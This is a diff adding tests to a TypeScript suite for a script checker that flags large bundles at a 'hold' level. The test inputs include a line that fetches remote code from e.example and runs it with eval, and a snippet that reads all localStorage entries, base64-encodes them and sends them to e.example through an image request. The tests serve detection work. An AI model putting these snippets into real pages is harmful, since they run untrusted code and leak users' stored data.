@@ -364,6 +364,23 @@ describe('the checks of large scripts', () => {
     ]);
   });
 
+  const isHeldIn = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');
+
+  it('hold those that run fetched code', () => {
+    const code = 'fetch("https://e.example/a.js").then((r) => r.text()).then((t) => (0, eval)(t));';
+    expect(isHeldIn(bundle(100_000) + code)).toBe(true);
+    expect(isHeldIn(bundle(1_100_000) + code)).toBe(true);
+  });
+
+  it('follow short statements after one that takes all steps', () => {
+    const calls = Array.from({ length: 3000 }, (_, at) => `f${at}(f${at + 1}(1, 2), f${at + 2}(3, 4));`).join('\n');
+    const long = `(function () {\n${bundle(500_000)}${calls}\n})();\n`;
+    const steps =
+      'const d = {};\nfor (const k of Object.keys(localStorage)) d[k] = localStorage.getItem(k);\nconst t = btoa(JSON.stringify(d));\nnew Image().src = "https://e.example/?" + t;\n';
+    expect(isHeldIn(long)).toBe(false);
+    expect(isHeldIn(long + steps)).toBe(true);
+  });
+
   it('find a theft among many of them', () => {
     const texts = new Map(Array.from({ length: 30 }, (_, at) => [`web/${at}.js`, bundle(40_000)]));
     texts.set('web/small.js', theft);
